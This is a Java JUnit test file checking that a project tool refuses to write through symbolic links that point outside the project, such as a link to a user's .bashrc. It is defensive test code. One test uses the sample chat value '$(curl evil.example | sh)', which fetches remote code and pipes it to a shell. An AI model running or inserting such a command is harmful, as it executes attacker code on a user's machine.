package dev.steward.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.steward.chat.ChatLog;
import dev.steward.chat.NewTurn;
import dev.steward.cli.CliMain;
import dev.steward.cli.CliServices;
import dev.steward.error.StewardException;
import dev.steward.project.Project;
import dev.steward.project.ProjectLock;
import dev.steward.store.AtomicFiles;
import dev.steward.store.CurationAction;
import dev.steward.store.CurationKind;
import dev.steward.store.CurationLog;
import dev.steward.store.FileStamp;
import dev.steward.store.JsonLinesAppender;
import dev.steward.store.JsonLinesReader;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 19, finding 2: a project folder someone sent you must not make Steward write outside it through a
 * symbolic link. Each case links a file or folder Steward writes to an "outside" file or folder, runs the real
 * writer and checks the outside stays byte for byte as it was and the message names the link.
 */
class SymlinkWritesTest {
    private static final String BASHRC = "# my shell setup\nexport PATH=$HOME/bin:$PATH\n";

    @TempDir
    Path tmp;

    private Path project;
    private Path outside;
    private final AtomicFiles files = new AtomicFiles();

    @BeforeEach
    void projectAndOutside() throws Exception {
        project = HostileProjects.withOrders(tmp.resolve("project"));
        HostileProjects.write(project.resolve("main.yaml"), "pipeline: {name: p}\n");
        outside = Files.createDirectories(tmp.resolve("home"));
        Files.writeString(outside.resolve(".bashrc"), BASHRC);
    }

    @Test
    void aLinkedLockFileIsNotTruncatedByAWriterCommand() throws Exception {
        Files.createDirectories(project.resolve(".steward"));
        Files.createSymbolicLink(project.resolve(".steward/lock"), outside.resolve(".bashrc"));
        StringWriter err = new StringWriter();
        CliServices services = new CliServices(Map.of("STEWARD_HOME", tmp.resolve("steward-home").toString()),
                new PrintWriter(new StringWriter()), new PrintWriter(err));

        int exit = CliMain.run(services, "examples", "harvest", project.toString());

        assertThat(exit).isEqualTo(2);
        assertThat(err.toString()).contains(".steward/lock is a symbolic link", "nothing was written");
        assertThat(Files.readString(outside.resolve(".bashrc"))).isEqualTo(BASHRC);
    }

    @Test
    void aLinkedStewardFolderGetsNoLockAndNoGitignore() throws Exception {
        Files.createSymbolicLink(project.resolve(".steward"), outside);

        assertThatThrownBy(() -> ProjectLock.acquire(project, "the Steward desktop app"))
                .isInstanceOf(StewardException.class)
                .hasMessageContaining("the folder " + project.resolve(".steward") + " is a symbolic link");
        assertThat(outside).isDirectoryNotContaining(p -> !p.getFileName().toString().equals(".bashrc"));
    }

    @Test
    void aLinkedChatHistoryFileIsNotAppendedTo() throws Exception {
        Files.createDirectories(project.resolve("chat_history"));
        Files.createSymbolicLink(project.resolve("chat_history/alice.jsonl"), outside.resolve(".bashrc"));
        ChatLog chat = new ChatLog(opened(), files, Clock.systemUTC());

        assertThatThrownBy(() -> chat.record("alice", NewTurn.text("s1", "$(curl evil.example | sh)", "hi")))
                .isInstanceOf(StewardException.class)
                .hasMessageContaining("alice.jsonl is a symbolic link");
        assertThat(Files.readString(outside.resolve(".bashrc"))).isEqualTo(BASHRC);
    }

    @Test
    void aLinkedChatHistoryFolderGetsNoFile() throws Exception {
        Files.createSymbolicLink(project.resolve("chat_history"), outside);
        ChatLog chat = new ChatLog(opened(), files, Clock.systemUTC());

        assertThatThrownBy(() -> chat.record("alice", NewTurn.text("s1", "question", "answer")))
                .isInstanceOf(StewardException.class)
                .hasMessageContaining("the folder " + project.resolve("chat_history") + " is a symbolic link");
        assertThat(outside).isDirectoryNotContaining(p -> !p.getFileName().toString().equals(".bashrc"));
    }

    @Test
    void aLinkedCurationLogIsNotAppendedTo() throws Exception {
        Files.createSymbolicLink(project.resolve("curation_log.jsonl"), outside.resolve(".bashrc"));
        CurationLog log = new CurationLog(opened().curationLogFile(), new JsonLinesAppender(files),
                new JsonLinesReader(), Clock.systemUTC());

        assertThatThrownBy(() -> log.record("alice", CurationKind.TABLE, "orders", CurationAction.APPROVE,
                null, null, null)).isInstanceOf(StewardException.class).hasMessageContaining("is a symbolic link");
        assertThat(Files.readString(outside.resolve(".bashrc"))).isEqualTo(BASHRC);
    }

    @Test
    void aLinkedKnowledgeFileIsRefusedWithWhatToDo() throws Exception {
        Files.writeString(outside.resolve("metadata.yaml"), "tables: {}\n");
        Path metadata = Files.createSymbolicLink(project.resolve("metadata.yaml"), outside.resolve("metadata.yaml"));
        FileStamp stamp = FileStamp.of(metadata);

        assertThatThrownBy(() -> files.writeStringIfUnchanged(metadata, "tables: {x: 1}\n", stamp))
                .isInstanceOf(StewardException.class)
                .hasMessageContaining(metadata + " is a symbolic link (to " + outside.resolve("metadata.yaml") + ")")
                .satisfies(e -> assertThat(((StewardException) e).userText())
                        .contains("replace it with a copy of the file it points to"));
        assertThat(Files.readString(outside.resolve("metadata.yaml"))).isEqualTo("tables: {}\n");
        assertThat(Files.isSymbolicLink(metadata)).isTrue();
    }

    @Test
    void aLinkedEvalRunsFolderGetsNoRun() throws Exception {
        Files.createSymbolicLink(project.resolve("eval_runs"), outside);

        assertThatThrownBy(() -> files.writeString(opened().evalRunsDir().resolve("run-1.json"), "{}"))
                .isInstanceOf(StewardException.class).hasMessageContaining("is a symbolic link");
        assertThat(outside.resolve("run-1.json")).doesNotExist();
    }

    @Test
    void aProjectFolderReachedThroughALinkTheUserChoseIsWrittenNormally() throws Exception {
        Path chosen = Files.createSymbolicLink(tmp.resolve("my-project"), project);

        try (ProjectLock lock = ProjectLock.acquire(chosen, "steward test")) {
            new ChatLog(HostileProjects.opener().open(chosen), files, Clock.systemUTC())
                    .record("alice", NewTurn.text("s1", "question", "answer"));
        }

        assertThat(Files.readString(project.resolve("chat_history/alice.jsonl"), StandardCharsets.UTF_8))
                .contains("\"question\"");
        assertThat(project.resolve(".steward/lock")).isRegularFile();
    }

    private Project opened() {
        return HostileProjects.opener().open(project);
    }
}
